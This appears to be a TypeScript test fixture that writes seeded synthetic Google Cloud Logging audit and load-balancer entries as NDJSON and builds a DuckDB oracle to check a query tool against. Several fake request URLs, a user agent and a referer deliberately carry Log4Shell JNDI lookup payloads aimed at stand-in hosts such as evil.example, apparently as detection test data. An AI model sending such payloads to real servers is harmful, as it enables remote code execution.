import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { createRandom } from '../../examples/warehouse/generate.js';
import { type Oracle, oracleOver } from './warehouse-fixture.js';

/**
 * A few hundred Google Cloud Logging entries over three days, as a sink routes them to BigQuery
 * (https://cloud.google.com/logging/docs/export/bigquery): Admin Activity audit logs in
 * date-sharded tables (`cloudaudit_googleapis_com_activity_20240301`, ...), load balancer request
 * logs in one `requests` table, and the same kinds of entries as a Log Analytics linked dataset's
 * `_AllLogs` view holds them (JSON-typed json_payload, labels and resource.labels). Written as the
 * NDJSON `bq extract` gives, from a seed, so every run sees the same rows.
 */
export interface CloudLoggingFixture {
  /** The audit day files, `cloudaudit_googleapis_com_activity_YYYYMMDD.ndjson`. */
  readonly auditFiles: readonly string[];
  readonly requestsFile: string;
  readonly allLogsFile: string;
  /** A minute after the last entry: what the queries' CURRENT_TIMESTAMP() is made a parameter for. */
  readonly now: string;
}

export const cloudLoggingDays = ['20240301', '20240302', '20240303'] as const;

/** BigQuery's export text for a TIMESTAMP. */
const bqTime = (ms: number) => `${new Date(ms).toISOString().replace('T', ' ').replace('Z', '')}000 UTC`;

const principals = [
  'alice@example.com',
  'bob@example.com',
  'deploy@my-project.iam.gserviceaccount.com',
  null,
] as const;
const auditMethods = [
  ['compute.googleapis.com', 'v1.compute.firewalls.insert'],
  ['compute.googleapis.com', 'v1.compute.firewalls.patch'],
  ['compute.googleapis.com', 'v1.compute.firewalls.delete'],
  ['compute.googleapis.com', 'v1.compute.firewalls.list'],
  ['compute.googleapis.com', 'v1.compute.instances.list'],
  ['compute.googleapis.com', 'v1.compute.instances.insert'],
  ['login.googleapis.com', 'google.login.LoginService.loginFailure'],
  ['logging.googleapis.com', 'google.logging.v2.ConfigServiceV2.UpdateSink'],
  ['storage.googleapis.com', 'storage.buckets.get'],
  ['iam.googleapis.com', 'google.iam.admin.v1.CreateServiceAccountKey'],
] as const;

/**
 * A day's IAP policy changes and Workspace group additions, whose payloads the sink keeps as JSON
 * text (responseJson, metadataJson): written without the seeded generator, so the other entries
 * stay as they were. Bindings hold members lists (one empty, one not a list of strings) and
 * parameters name group emails, some privileged.
 */
function policyEntries(suffix: string, dayStart: number): string[] {
  const hour = 3_600_000;
  const entry = (i: number, payload: Record<string, unknown>) =>
    JSON.stringify({
      logName: 'projects/my-project/logs/cloudaudit.googleapis.com%2Factivity',
      resource: { type: 'gce_backend_service', labels: { project_id: 'my-project', zone: null } },
      protopayload_auditlog: {
        resourceName: `projects/my-project/iap_web/compute/services/svc-${i}`,
        metadataJson: null,
        responseJson: null,
        authenticationInfo: {
          principalEmail: i % 2 ? 'alice@example.com' : 'bob@example.com',
          serviceAccountDelegationInfo: [],
        },
        requestMetadata: { callerIp: '10.0.0.1', callerSuppliedUserAgent: 'gcloud/450.0.0' },
        status: { code: null, message: null },
        ...payload,
      },
      textPayload: null,
      timestamp: bqTime(dayStart + (i + 2) * hour),
      receiveTimestamp: bqTime(dayStart + (i + 2) * hour + 250),
      severity: 'NOTICE',
      insertId: `p${suffix}${i}`,
      operation: null,
      trace: null,
      spanId: null,
    });
  const iap = 'iap.googleapis.com';
  const setPolicy = 'google.cloud.iap.v1.IdentityAwareProxyAdminService.SetIamPolicy';
  const addMember = 'google.admin.AdminService.addGroupMember';
  const group = (user: string, groupEmail: string) =>
    JSON.stringify({
      event: [
        {
          parameter: [
            { name: 'USER_EMAIL', value: user },
            { name: 'GROUP_EMAIL', value: groupEmail },
          ],
        },
      ],
    });
  return [
    entry(0, {
      serviceName: iap,
      methodName: setPolicy,
      responseJson: JSON.stringify({
        bindings: [
          {
            role: 'roles/iap.httpsResourceAccessor',
            members: [`user:carol-${suffix}@example.com`, 'group:ops@example.com'],
          },
          { role: 'roles/iap.tunnelResourceAccessor', members: ['user:dave@example.com'] },
          { role: 'roles/iap.httpsResourceAccessor', members: [] },
        ],
        etag: 'BwX=',
      }),
    }),
    entry(1, {
      serviceName: iap,
      methodName: setPolicy,
      responseJson: JSON.stringify({
        bindings: [{ role: 'roles/iap.httpsResourceAccessor', members: [{ user: 'erin@example.com' }] }],
      }),
    }),
    entry(2, { serviceName: iap, methodName: setPolicy, responseJson: JSON.stringify({ etag: 'BwY=' }) }),
    entry(3, {
      serviceName: 'admin.googleapis.com',
      methodName: addMember,
      metadataJson: group(`frank-${suffix}@example.com`, 'prod-admins@example.com'),
    }),
    entry(4, {
      serviceName: 'admin.googleapis.com',
      methodName: addMember,
      metadataJson: group('grace@example.com', 'marketing@example.com'),
    }),
    entry(5, {
      serviceName: 'admin.googleapis.com',
      methodName: addMember,
      metadataJson: group('heidi@example.com', 'admin-team@example.com'),
    }),
  ];
}

export function writeCloudLoggingFixture(dir: string, seed = 7): CloudLoggingFixture {
  const random = createRandom(seed);
  const start = Date.parse('2024-03-01T00:00:00Z');
  const day = 86_400_000;
  let last = start;
  const at = (dayIndex: number) => {
    const ms = start + dayIndex * day + random.int(0, day - 1000) + random.int(0, 999) / 1000;
    last = Math.max(last, Math.floor(ms));
    return Math.floor(ms);
  };

  const auditFiles = cloudLoggingDays.map((suffix, dayIndex) => {
    const lines: string[] = [];
    for (let i = 0; i < 70; i++) {
      const [serviceName, methodName] = random.pick(auditMethods);
      const principal = random.pick(principals);
      const ms = at(dayIndex);
      const delegated = principal?.endsWith('gserviceaccount.com') && random.chance(0.5);
      lines.push(
        JSON.stringify({
          logName: 'projects/my-project/logs/cloudaudit.googleapis.com%2Factivity',
          resource: { type: 'gce_firewall_rule', labels: { project_id: 'my-project', zone: null } },
          protopayload_auditlog: {
            serviceName,
            methodName,
            resourceName: `projects/my-project/global/firewalls/rule-${random.int(1, 4)}`,
            metadataJson: null,
            responseJson: null,
            authenticationInfo: {
              principalEmail: principal,
              serviceAccountDelegationInfo: delegated
                ? [
                    {
                      firstPartyPrincipal: {
                        principalEmail: random.pick(['ci@example.com', 'ops@example.com']),
                      },
                    },
                  ]
                : [],
            },
            requestMetadata: {
              callerIp: `10.0.0.${random.int(1, 9)}`,
              callerSuppliedUserAgent: random.pick(['gcloud/450.0.0', 'Terraform/1.7.4', 'Mozilla/5.0']),
            },
            status: random.chance(0.1)
              ? { code: 7, message: 'PERMISSION_DENIED' }
              : { code: null, message: null },
          },
          textPayload: null,
          timestamp: bqTime(ms),
          receiveTimestamp: bqTime(ms + 250),
          severity: random.pick(['NOTICE', 'NOTICE', 'ERROR']),
          insertId: `a${suffix}${i}`,
          operation: null,
          trace: null,
          spanId: null,
          // No table_day: Cloud Logging's tables have no such column, so `querygate import`
          // takes the suffix from the file's name, as the day table's export is named.
        }),
      );
    }
    lines.push(...policyEntries(suffix, start + dayIndex * day));
    const file = join(dir, `cloudaudit_googleapis_com_activity_${suffix}.ndjson`);
    writeFileSync(file, `${lines.join('\n')}\n`);
    return file;
  });

  // A Log4Shell lookup as attackers send it; joined, so no linter takes it for a template string.
  const lookup = ['$', '{jndi:'].join('');
  const urls = [
    'https://shop.example.com/',
    'https://shop.example.com/cart',
    `https://shop.example.com/search?q=${lookup}ldap://evil.example/a}`,
    'https://shop.example.com/?x=%24%7BJNDI%3Aldap://evil.example/b%7D',
    'https://shop.example.com/api/items',
  ];
  const requestLines: string[] = [];
  const allLogsLines: string[] = [];
  for (let i = 0; i < 160; i++) {
    const ms = at(i % 3);
    const status = random.pick([200, 200, 200, 201, 301, 403, 404, 500, 502, 503]);
    const denied = status === 403;
    const method = random.pick(['GET', 'GET', 'POST', 'PUT']);
    const latencySeconds = random.int(1, 2500) / 1000;
    const serverIp = random.pick(['10.8.0.2', '10.8.0.3', '10.8.0.4', '']);
    requestLines.push(
      JSON.stringify({
        logName: 'projects/my-project/logs/requests',
        resource: {
          type: random.chance(0.85) ? 'http_load_balancer' : 'cloud_run_revision',
          labels: {
            backend_service_name: random.pick(['web-backend', 'api-backend']),
            url_map_name: 'lb',
            project_id: 'my-project',
          },
        },
        httpRequest: {
          requestMethod: method,
          requestUrl: random.pick(urls),
          requestSize: random.int(100, 900),
          status,
          responseSize: random.int(0, 90_000),
          userAgent: random.chance(0.1) ? `curl/${lookup}rmi://x}` : 'Mozilla/5.0',
          remoteIp: `203.0.113.${random.int(1, 12)}`,
          serverIp: serverIp === '' ? null : serverIp,
          referer: random.chance(0.05) ? 'https://x/%24%7bjndi%3a' : null,
          latency: random.chance(0.05) ? null : `${latencySeconds}s`,
        },
        jsonpayload_type_loadbalancerlogentry: {
          statusdetails: denied ? 'denied_by_security_policy' : 'response_sent_by_backend',
          enforcedsecuritypolicy: denied
            ? { name: random.pick(['edge-policy', 'geo-block']), outcome: 'DENY' }
            : null,
        },
        timestamp: bqTime(ms),
        receiveTimestamp: bqTime(ms + 100),
        severity: status >= 500 ? 'ERROR' : 'INFO',
        insertId: `r${i}`,
        trace: null,
        spanId: null,
      }),
    );
    const kind = random.pick(['cloud_run_revision', 'http_load_balancer', 'k8s_container'] as const);
    const service = random.pick(['checkout', 'frontend', 'cart']);
    allLogsLines.push(
      JSON.stringify({
        timestamp: bqTime(ms),
        receive_timestamp: bqTime(ms + 100),
        log_name: `projects/my-project/logs/${kind === 'k8s_container' ? 'stdout' : 'requests'}`,
        severity: random.pick(['INFO', 'INFO', 'ERROR', 'WARNING']),
        insert_id: `l${i}`,
        resource: {
          type: kind,
          labels:
            kind === 'k8s_container'
              ? { pod_name: `${service}-7d9f-${random.int(1, 3)}`, container_name: 'server' }
              : kind === 'cloud_run_revision'
                ? { service_name: service, revision_name: `${service}-0001` }
                : { backend_service_name: random.pick(['web-backend', 'api-backend']) },
        },
        labels: random.chance(0.5)
          ? { app: service, 'compute.googleapis.com/resource_name': 'node-1' }
          : null,
        json_payload: random.chance(0.15)
          ? null
          : {
              message: random.pick(['request complete', 'request started', 'cache miss']),
              'http.resp.took_ms': random.int(1, 900),
              statusDetails: denied ? 'denied_by_security_policy' : 'response_sent_by_backend',
              ...(denied
                ? { enforcedSecurityPolicy: { name: random.pick(['edge-policy', 'geo-block']) } }
                : {}),
            },
        text_payload: null,
        http_request:
          kind === 'k8s_container'
            ? null
            : {
                request_method: method,
                request_url: random.pick(urls),
                status,
                response_size: random.int(0, 90_000),
                user_agent: 'Mozilla/5.0',
                remote_ip: `203.0.113.${random.int(1, 12)}`,
                server_ip: serverIp,
                latency: {
                  seconds: Math.floor(latencySeconds),
                  nanos: Math.round((latencySeconds % 1) * 1e9),
                },
              },
        trace: null,
        span_id: null,
      }),
    );
  }
  const requestsFile = join(dir, 'requests.ndjson');
  writeFileSync(requestsFile, `${requestLines.join('\n')}\n`);
  const allLogsFile = join(dir, 'all_logs.ndjson');
  writeFileSync(allLogsFile, `${allLogsLines.join('\n')}\n`);
  return { auditFiles, requestsFile, allLogsFile, now: new Date(last + 60_000).toISOString() };
}

// The oracle's own reading of the files: DuckDB types written here by hand from Google's schema,
// independently of querygate's type map.
const auditColumns = `{
  logName: 'VARCHAR', resource: 'STRUCT(type VARCHAR, labels STRUCT(project_id VARCHAR, zone VARCHAR))',
  protopayload_auditlog: 'STRUCT(serviceName VARCHAR, methodName VARCHAR, resourceName VARCHAR, metadataJson VARCHAR, responseJson VARCHAR,
    authenticationInfo STRUCT(principalEmail VARCHAR, serviceAccountDelegationInfo STRUCT(firstPartyPrincipal STRUCT(principalEmail VARCHAR))[]),
    requestMetadata STRUCT(callerIp VARCHAR, callerSuppliedUserAgent VARCHAR), status STRUCT(code BIGINT, message VARCHAR))',
  timestamp: 'TIMESTAMP', receiveTimestamp: 'TIMESTAMP', severity: 'VARCHAR', insertId: 'VARCHAR'
}`;
const requestColumns = `{
  logName: 'VARCHAR', resource: 'STRUCT(type VARCHAR, labels STRUCT(backend_service_name VARCHAR, url_map_name VARCHAR, project_id VARCHAR))',
  httpRequest: 'STRUCT(requestMethod VARCHAR, requestUrl VARCHAR, requestSize BIGINT, status BIGINT, responseSize BIGINT, userAgent VARCHAR, remoteIp VARCHAR, serverIp VARCHAR, referer VARCHAR, latency VARCHAR)',
  jsonpayload_type_loadbalancerlogentry: 'STRUCT(statusdetails VARCHAR, enforcedsecuritypolicy STRUCT(name VARCHAR, outcome VARCHAR))',
  timestamp: 'TIMESTAMP', receiveTimestamp: 'TIMESTAMP', severity: 'VARCHAR', insertId: 'VARCHAR'
}`;
const allLogsColumns = `{
  timestamp: 'TIMESTAMP', log_name: 'VARCHAR', severity: 'VARCHAR', insert_id: 'VARCHAR',
  resource: 'STRUCT(type VARCHAR, labels JSON)', labels: 'JSON', json_payload: 'JSON',
  http_request: 'STRUCT(request_method VARCHAR, request_url VARCHAR, status BIGINT, response_size BIGINT, user_agent VARCHAR, remote_ip VARCHAR, server_ip VARCHAR, latency STRUCT(seconds BIGINT, nanos BIGINT))'
}`;

/**
 * The entries as BigQuery holds them: one table per audit day, `requests` and `all_logs` (the
 * `_AllLogs` view), read straight from the files. Expected answers are plain DuckDB SQL over these.
 */
export async function createCloudLoggingOracle(fixture: CloudLoggingFixture): Promise<Oracle> {
  const instance = await DuckDBInstance.create(':memory:');
  const connection = await instance.connect();
  const load = (table: string, file: string, columns: string) =>
    connection.run(
      `CREATE TABLE ${table} AS SELECT * FROM read_json('${file}', format = 'newline_delimited', columns = ${columns})`,
    );
  for (const file of fixture.auditFiles)
    await load((file.split('/').at(-1) as string).replace('.ndjson', ''), file, auditColumns);
  await load('requests', fixture.requestsFile, requestColumns);
  await load('all_logs', fixture.allLogsFile, allLogsColumns);
  await connection.run(
    `CREATE VIEW audit AS ${fixture.auditFiles
      .map((file) => `SELECT * FROM ${(file.split('/').at(-1) as string).replace('.ndjson', '')}`)
      .join(' UNION ALL ')}`,
  );
  return oracleOver(instance, connection);
}
